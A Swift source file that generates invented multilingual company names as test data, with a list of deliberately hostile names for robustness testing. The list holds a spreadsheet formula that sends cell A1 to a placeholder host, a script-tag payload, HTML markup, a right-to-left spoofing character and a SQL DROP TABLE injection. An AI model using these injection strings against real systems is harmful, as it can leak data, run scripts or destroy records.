/// Invented company names: a made-up root, a trade and a legal form of the market's language.
///
/// A few names are hostile on purpose. Customer names are text that a stranger typed: they must
/// survive CSV, HTML, spreadsheets and terminals without becoming a formula, a tag or a command.
enum CompanyName {
  enum Language: Sendable {
    case english, german, dutch, finnish, japanese, french, spanish, italian
  }

  /// Every `hostileEvery`-th customer of the partner has the next of these names.
  static let hostile = [
    #"=HYPERLINK("http://example.test/?"&A1,"Open invoice")"#,
    "<b>Bold & Brothers</b>",
    #"Nordlicht, Söhne & Co. "Die Werft""#,
    "+49 Direktwerk GmbH",
    "@Zweigstelle Nord",
    "-Minus- Interiors",
    "<script>alert('x')</script> Ltd",
    "Sinistra \u{202E}moc.elpmaxe",
    "Tabulator\tund Zeile",
    "'; DROP TABLE customers; --",
    "Café Zoë 🌿",
  ]

  /// A name of this language; always the same number of draws, whatever it turns out to be.
  static func drawn(_ language: Language, from chance: inout SplitMix64) -> String {
    let words = Words.of(language)
    let beginning = chance.element(of: words.beginnings)
    let vowel = chance.element(of: ["", "", "a", "o", "i"])
    let ending = chance.element(of: words.endings)
    let trade = chance.element(of: words.trades)
    let form = chance.element(of: words.forms)
    let root = beginning + (links(beginning, ending) ? vowel : "") + ending
    return switch language {
    case .japanese: form + root + trade
    case .french, .spanish, .italian: "\(trade) \(root) \(form)"
    case .english, .german, .dutch, .finnish: "\(root) \(trade) \(form)"
    }
  }

  /// A linking vowel stands between two consonants of the Latin alphabet only.
  private static func links(_ beginning: String, _ ending: String) -> Bool {
    let consonants = "bcdfghjklmnpqrstvwxz"
    guard let last = beginning.last, let first = ending.first else { return false }
    return consonants.contains(last) && consonants.contains(first)
  }
}

/// What the names of one language are made of.
private struct Words {
  var beginnings: [String]
  var endings: [String]
  var trades: [String]
  var forms: [String]

  static func of(_ language: CompanyName.Language) -> Words {
    switch language {
    case .english:
      Words(
        beginnings: [
          "Brin", "Lum", "Cald", "Wes", "Thorn", "Kel", "Mar", "Ash", "Hob", "Tam", "Dun", "Fen",
        ],
        endings: ["more", "wick", "hollow", "stead", "gate", "combe", "ridge"],
        trades: [
          "Dental", "Freight", "Joinery", "Insurance", "Seeds", "Tutoring", "Film Labs", "Pumps",
          "Catering", "Surveyors",
        ],
        forms: ["Ltd", "LLC", "Inc.", "Group", "Partners"])
    case .german:
      Words(
        beginnings: ["Hage", "Öst", "Wiesen", "Brüh", "Tann", "Kolb", "Stein", "Linden", "Moos"],
        endings: ["rieder", "acker", "hofer", "mühl", "brunner", "loh"],
        trades: [
          "Maschinenbau", "Bäckereitechnik", "Logistik", "Steuerberatung", "Möbel", "Messgeräte",
          "Gartenbau",
        ],
        forms: ["GmbH", "AG", "GmbH & Co. KG", "e. K."])
    case .dutch:
      Words(
        beginnings: ["Vel", "Oude", "Sprin", "Groen", "Kwel", "Zand", "Heem"],
        endings: ["dijk", "horst", "meerse", "kamper", "veld"],
        trades: ["Bloemen", "Scheepsbouw", "Advies", "Kaashandel", "Installaties"],
        forms: ["B.V.", "N.V.", "V.O.F."])
    case .finnish:
      Words(
        beginnings: ["Kivi", "Hämä", "Suo", "Pöllö", "Tuuli", "Lumi"],
        endings: ["salmi", "lahtinen", "järvelä", "koskela", "ranta"],
        trades: ["Rakennus", "Puu", "Ohjelmistot", "Huolto", "Kalastus"],
        forms: ["Oy", "Oyj", "Tmi"])
    case .japanese:
      Words(
        beginnings: ["風見", "青霧", "星苔", "朝凪", "灯野", "月白"],
        endings: ["沢", "浜", "岬", "峰", "森"],
        trades: ["物流", "製作所", "食品", "印刷", "電子", "建設", "システムズ"],
        forms: ["株式会社", "株式会社", "有限会社"])
    case .french:
      Words(
        beginnings: ["Val", "Brés", "Cour", "Mont", "Haute", "Clair"],
        endings: ["érac", "illon", "fontelle", "argnes", "bruyère"],
        trades: ["Établissements", "Maison", "Société", "Atelier"],
        forms: ["SARL", "SAS", "& Fils", "SA"])
    case .spanish:
      Words(
        beginnings: ["Alba", "Peñ", "Monte", "Río", "Caste", "Valle"],
        endings: ["rraga", "alveda", "serrón", "ñuela", "dorada"],
        trades: ["Talleres", "Bodegas", "Gestoría", "Distribuciones", "Clínica"],
        forms: ["S.L.", "S.A.", "S.L.U."])
    case .italian:
      Words(
        beginnings: ["Valde", "Roca", "Bella", "Spi", "Torre", "Ponte"],
        endings: ["ghina", "vento", "lagonda", "rossina", "marezzo"],
        trades: ["Officine", "Tipografia", "Ceramiche", "Trasporti", "Studio"],
        forms: ["S.r.l.", "S.p.A.", "S.n.c."])
    }
  }
}
